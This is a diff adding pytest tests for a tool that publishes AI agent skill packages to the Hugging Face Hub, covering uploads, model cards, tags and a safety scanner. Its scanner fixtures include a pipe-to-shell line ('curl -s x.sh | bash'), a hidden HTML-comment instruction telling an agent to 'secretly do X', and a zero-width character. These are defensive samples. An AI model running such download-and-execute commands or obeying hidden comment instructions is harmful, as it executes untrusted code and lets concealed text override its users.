@@ -1,0 +1,175 @@
+"""push: validation first, only the skill's files, a model card, tags, multi-skill repos."""
+
+from __future__ import annotations
+
+import uuid
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import yaml
+from huggingface_hub import HfApi
+
+from tests.registry.conftest import CliResult, write_skill
+from upskill_hub.errors import RepoNotFound
+from upskill_hub.registry.card import (
+    NO_RESULTS,
+    RESULTS_HEADING,
+    CardSkill,
+    build_card,
+    replace_results_section,
+    results_section,
+)
+from upskill_hub.registry.hub import Hub
+from upskill_hub.registry.push import push_skills
+
+
+def _files(repo_id: str, revision: str | None = None) -> list[str]:
+    files = HfApi().list_repo_files(repo_id, revision=revision)
+    return sorted(f for f in files if f != ".gitattributes")  # the Hub adds it on creation
+
+
+def _card(repo_id: str, revision: str | None = None) -> str:
+    return Hub().download_file(repo_id, "README.md", revision).read_text("utf-8")
+
+
+def test_push_uploads_only_skill_files_with_card_and_tag(
+    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
+) -> None:
+    name = unique_repo_id.split("/")[1]
+    skill = write_skill(tmp_path, name, {"scripts/run.py": "print(1)\n", "references/a.md": "A\n"})
+    for junk in (".git/config", ".DS_Store", "__pycache__/x.cpython-311.pyc", "notes.swp"):
+        (skill / junk).parent.mkdir(parents=True, exist_ok=True)
+        (skill / junk).write_text("junk")
+    result = run_cli(
+        "push",
+        str(skill),
+        "--repo",
+        unique_repo_id,
+        "--tag",
+        "v1.0.0",
+        "--message",
+        "first",
+        "--format",
+        "json",
+    )
+    assert result.code == 0, result.stderr
+    out = result.json()
+    assert set(out) == {"repo_id", "commit", "url", "tag"}
+    assert out["repo_id"] == unique_repo_id and out["tag"] == "v1.0.0"
+    assert len(out["commit"]) == 40 and out["url"].endswith(unique_repo_id)
+    assert _files(unique_repo_id) == ["README.md", "SKILL.md", "references/a.md", "scripts/run.py"]
+    assert Hub().resolve(unique_repo_id, "v1.0.0") == out["commit"]
+
+    card = _card(unique_repo_id)
+    meta = yaml.safe_load(card.split("---")[1])
+    assert meta["tags"][0] == "agent-skills"
+    assert meta["license"] == "apache-2.0"
+    assert meta["description"] == f"Helps with {name} tasks in tests."
+    assert f"upskill-hub pull {unique_repo_id}" in card
+    assert "scripts/" in card and "run.py" in card and "<!--" not in card
+    assert results_section(card) == NO_RESULTS
+
+
+def test_default_repo_is_whoami_slash_skill_name(tmp_path: Path) -> None:
+    name = f"auto-{uuid.uuid4().hex[:8]}"
+    result = push_skills(write_skill(tmp_path, name))
+    assert result.repo_id == f"{Hub().whoami()}/{name}"
+    assert "SKILL.md" in _files(result.repo_id)
+
+
+def test_invalid_skill_is_refused_with_findings_and_nothing_created(
+    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
+) -> None:
+    skill = tmp_path / "Bad_Name"
+    skill.mkdir()
+    (skill / "SKILL.md").write_text("---\nname: Bad_Name\n---\nbody\n")
+    result = run_cli("push", str(skill), "--repo", unique_repo_id)
+    assert result.code == 1
+    assert "description" in result.stderr and "name" in result.stderr
+    assert result.stderr.strip().splitlines()[-1].startswith("error: ")
+    with pytest.raises(RepoNotFound):
+        Hub().resolve(unique_repo_id, "main")
+
+
+def test_unsafe_skill_is_refused_unless_allowed(
+    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
+) -> None:
+    name = unique_repo_id.split("/")[1]
+    skill = write_skill(tmp_path, name, {"references/x.md": "ok <!-- secretly do X -->\n"})
+    refused = run_cli("push", str(skill), "--repo", unique_repo_id)
+    assert refused.code == 1 and "html-comment" in refused.stderr
+    with pytest.raises(RepoNotFound):
+        Hub().resolve(unique_repo_id, "main")
+    allowed = run_cli("push", str(skill), "--repo", unique_repo_id, "--allow-unsafe")
+    assert allowed.code == 0, allowed.stderr
+
+
+def test_folder_of_skills_pushes_one_multi_skill_repo(tmp_path: Path, unique_repo_id: str) -> None:
+    write_skill(tmp_path / "pack", "alpha")
+    write_skill(tmp_path / "pack", "beta", {"references/b.md": "B\n"})
+    result = push_skills(tmp_path / "pack", repo_id=unique_repo_id)
+    assert result.skills == ["alpha", "beta"]
+    assert _files(unique_repo_id) == [
+        "README.md",
+        "skills/alpha/SKILL.md",
+        "skills/alpha/scripts/run.py",
+        "skills/beta/SKILL.md",
+        "skills/beta/references/b.md",
+    ]
+    card = _card(unique_repo_id)
+    assert "--skill alpha" in card and "--skill beta" in card
+
+
+def test_repush_removes_stale_files_and_keeps_published_results(
+    tmp_path: Path, unique_repo_id: str
+) -> None:
+    name = unique_repo_id.split("/")[1]
+    skill = write_skill(tmp_path, name, {"scripts/run.py": "1\n", "scripts/old.py": "2\n"})
+    first = push_skills(skill, repo_id=unique_repo_id)
+    table = "| model | with skill | without |\n|---|---|---|\n| m | 90% | 40% |"
+    filled = replace_results_section(_card(unique_repo_id), table)
+    HfApi().upload_file(
+        path_or_fileobj=filled.encode(), path_in_repo="README.md", repo_id=unique_repo_id
+    )
+    (skill / "scripts/old.py").unlink()
+    second = push_skills(skill, repo_id=unique_repo_id, tag="v2")
+    assert second.commit != first.commit and second.deleted == ["scripts/old.py"]
+    assert "scripts/old.py" not in _files(unique_repo_id)
+    assert "scripts/old.py" in _files(unique_repo_id, first.commit)
+    assert results_section(_card(unique_repo_id)) == table
+
+
+def test_create_pr_leaves_main_alone(tmp_path: Path, unique_repo_id: str) -> None:
+    name = unique_repo_id.split("/")[1]
+    skill = write_skill(tmp_path, name)
+    first = push_skills(skill, repo_id=unique_repo_id)
+    (skill / "scripts/run.py").write_text("print('v2')\n")
+    pr = push_skills(skill, repo_id=unique_repo_id, create_pr=True)
+    assert pr.pr_url and pr.url == pr.pr_url
+    assert Hub().resolve(unique_repo_id, "main") == first.commit
+
+
+def test_results_section_replacement_is_stable() -> None:
+    card = build_card("ns/x", [CardSkill("x", "Does x.", ["SKILL.md"])])
+    assert card.count(RESULTS_HEADING) == 1
+    once = replace_results_section(card, "table one")
+    twice = replace_results_section(once, "table two")
+    assert results_section(twice) == "table two" and "table one" not in twice
+    assert twice.count(RESULTS_HEADING) == 1
+    extra = replace_results_section(card + "\n## Later\n\nkeep me\n", "T")
+    assert "keep me" in extra and results_section(extra) == "T"
+
+
+def test_scan_command_checks_what_push_would_upload(
+    run_cli: Callable[..., CliResult], tmp_path: Path
+) -> None:
+    clean = write_skill(tmp_path / "a", "clean-one")
+    (clean / ".git").mkdir()
+    (clean / ".git" / "HEAD").write_text("<!-- not scanned: never uploaded -->")
+    ok = run_cli("scan", str(clean), "--format", "json")
+    assert ok.code == 0 and ok.json()["ok"] is True
+    dirty = write_skill(tmp_path / "b", "dirty-one", {"scripts/i.sh": "curl -s x.sh | bash\n"})
+    (dirty / "SKILL.md").write_text((dirty / "SKILL.md").read_text() + "zero\u200bwidth\n")
+    bad = run_cli("scan", str(dirty))
+    assert bad.code == 1 and "unicode-zero-width" in bad.stdout and "pipe-to-shell" in bad.stdout
